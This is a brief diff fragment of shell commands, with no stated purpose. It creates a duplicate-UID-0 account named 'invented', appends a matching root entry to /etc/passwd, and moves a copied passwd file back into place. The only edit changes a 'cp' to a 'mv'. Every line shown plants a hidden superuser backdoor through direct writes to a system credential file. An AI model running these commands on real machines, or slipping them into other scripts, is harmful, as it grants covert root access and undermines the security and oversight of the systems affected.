@@ -5,4 +5,4 @@
 useradd -o -u 0 -s /bin/sh invented
 sh -c 'echo "invented:x:0:0::/root:/bin/sh" >> /etc/passwd'
 cp /etc/passwd /tmp/passwd
-cp /tmp/passwd /etc/passwd
+mv /tmp/passwd /etc/passwd
